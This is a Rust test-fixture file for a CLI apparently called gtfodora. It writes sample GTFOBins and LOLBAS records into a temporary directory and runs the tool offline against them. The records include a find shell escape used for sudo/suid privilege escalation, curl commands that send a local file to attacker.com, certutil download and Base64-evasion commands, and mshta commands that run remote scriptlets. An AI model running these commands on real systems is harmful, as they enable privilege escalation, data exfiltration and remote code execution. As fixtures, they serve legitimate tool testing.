#![allow(dead_code)]

// Fixture clone roots: a miniature GTFOBins + LOLBAS checkout layout written
// into a temporary directory.

use anyhow::{Context, Result};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use tempfile::TempDir;

pub const FIND_MD: &str = r#"---
functions:
  shell:
    - code: find . -exec /bin/sh \; -quit
  sudo:
    - description: It runs in privileged context and may be used to access the file system.
      code: sudo find . -exec /bin/sh \; -quit
  suid:
    - code: ./find . -exec /bin/sh -p \; -quit
---
"#;

pub const CURL_MD: &str = r#"---
functions:
  file-upload:
    - description: Send local file with an HTTP POST request.
      code: |
        URL=http://attacker.com/
        LFILE=file_to_send
        curl -X POST -d @$LFILE $URL
  file-download:
    - description: Fetch a remote file via HTTP GET request.
      code: |
        URL=http://attacker.com/file_to_get
        LFILE=file_to_save
        curl $URL -o $LFILE
  file-write:
    - code: curl file:///tmp/source -o /tmp/dest
---

Body text that is not part of the record.
"#;

pub const CERTUTIL_YML: &str = r#"---
Name: Certutil.exe
Description: Windows binary used for handling certificates
Author: 'Oddvar Moe'
Created: 2018-05-25
Commands:
  - Command: certutil.exe -urlcache -split -f http://7-zip.org/a/7z1604-x64.exe 7zip.exe
    Description: Download and save 7zip to disk in the current folder.
    Usecase: Download file from Internet
    Category: Download
    Privileges: User
    MitreID: T1105
    OperatingSystem: Windows vista, Windows 7, Windows 8, Windows 8.1, Windows 10
  - Command: certutil.exe -verifyctl -split -f http://7-zip.org/a/7z1604-x64.exe 7zip.exe
    Description: Download and save 7zip to disk in the current folder.
    Usecase: Download file from Internet
    Category: download
    Privileges: User
    MitreID: T1105
    OperatingSystem: Windows 10
  - Command: certutil.exe -encode inputFileName encodedOutputFileName
    Description: Command to encode a file using Base64
    Usecase: Encode files to evade defensive measures
    Category: Encode
    Privileges: User
    MitreID: T1027
    OperatingSystem: Windows vista, Windows 7, Windows 8, Windows 8.1, Windows 10
Full_Path:
  - Path: C:\Windows\System32\certutil.exe
Detection:
  - IOC: Certutil.exe creating new files on disk
Resources:
  - Link: https://twitter.com/Moriarty_Meng/status/984380793383370752
Acknowledgement:
  - Person: Matt Graeber
    Handle: '@mattifestation'
"#;

pub const MSHTA_YML: &str = r#"---
Name: Mshta.exe
Description: Used by Windows to execute html applications. (.hta)
Author: Oddvar Moe
Created: 2018-05-25
Commands:
  - Command: mshta.exe evilfile.hta
    Description: Opens the target .HTA and executes embedded JavaScript, JScript, or VBScript.
    Category: Execute
  - Command: mshta.exe "C:\temp\file.txt:file.hta"
    Description: Opens the target .HTA from an alternate data stream.
    Category: ADS
  - Command: mshta.exe http://webserver/payload.hta
    Description: Downloads and executes the remote .HTA.
    Category: Execute
  - Command: mshta.exe javascript:a=GetObject("script:https://x/y.sct").Exec();close();
    Description: Executes a remote scriptlet.
    Category: AWL Bypass
  - Command: mshta.exe tamper
    Description: Tamper with something.
    Category: Tamper
"#;

/// Temporary clone root holding `gtfo/_gtfobins` and `lolbas/yml`.
pub struct FixtureClone {
    dir: TempDir,
}

impl FixtureClone {
    pub fn empty() -> Result<Self> {
        Ok(Self {
            dir: TempDir::new().context("failed to allocate fixture clone root")?,
        })
    }

    /// Two Unix and two Windows records.
    pub fn standard() -> Result<Self> {
        let fixture = Self::empty()?;
        fixture.unix("find.md", FIND_MD)?;
        fixture.unix("curl.md", CURL_MD)?;
        fixture.windows("OSBinaries/Certutil.yml", CERTUTIL_YML)?;
        fixture.windows("OSBinaries/Mshta.yml", MSHTA_YML)?;
        Ok(fixture)
    }

    pub fn root(&self) -> &Path {
        self.dir.path()
    }

    pub fn unix(&self, file: &str, contents: &str) -> Result<PathBuf> {
        self.write(&Path::new("gtfo/_gtfobins").join(file), contents)
    }

    pub fn windows(&self, file: &str, contents: &str) -> Result<PathBuf> {
        self.write(&Path::new("lolbas/yml").join(file), contents)
    }

    fn write(&self, relative: &Path, contents: &str) -> Result<PathBuf> {
        let path = self.root().join(relative);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent)
                .with_context(|| format!("creating {}", parent.display()))?;
        }
        fs::write(&path, contents).with_context(|| format!("writing {}", path.display()))?;
        Ok(path)
    }
}

/// Run the CLI against `clone_root` without touching the network.
pub fn run_cli(clone_root: &Path, args: &[&str]) -> Result<Output> {
    Command::new(env!("CARGO_BIN_EXE_gtfodora"))
        .arg("--offline")
        .arg("--clone-path")
        .arg(clone_root)
        .args(args)
        .env_remove("RUST_LOG")
        .env_remove("GTFODORA_CLONE_PATH")
        .output()
        .context("failed to execute gtfodora")
}

pub fn stdout_of(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub fn stderr_of(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}
